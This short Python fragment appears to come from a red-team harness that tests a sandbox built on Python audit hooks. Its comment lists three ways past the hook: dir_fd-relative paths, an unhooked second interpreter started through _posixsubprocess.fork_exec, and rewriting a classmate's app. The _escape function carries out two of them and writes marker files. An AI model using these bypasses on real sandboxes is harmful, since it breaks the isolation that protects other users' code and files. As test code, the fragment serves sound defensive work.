# At the `process` level the audit hook is the only wall. Three ways past it: a path relative to a
# directory descriptor (the hook judges "x", not where it lands), a second interpreter started by
# _posixsubprocess.fork_exec (no audit event, no hook), and that interpreter rewriting a classmate's app.
def _escape():
    done = []
    try:
        fd = _os.open(ATTACK["evidence"], _os.O_RDONLY | _os.O_DIRECTORY)
        note = _os.open("dir-fd-" + ATTACK["marker"], _os.O_WRONLY | _os.O_CREAT, 0o644, dir_fd=fd)
        _os.close(note)
        _os.close(fd)
        done.append("dir_fd")
    except OSError:
        pass
    code = f"open({ATTACK['classmate']!r}, 'a').write('\\n# ' + {ATTACK['marker']!r} + '\\n'); print('rewrote')"
    if "rewrote" in (unhooked(code) or ""):
        done.append("classmate")
    if done:
        answer(" ".join(done))


attack_once("process_escape", _escape)
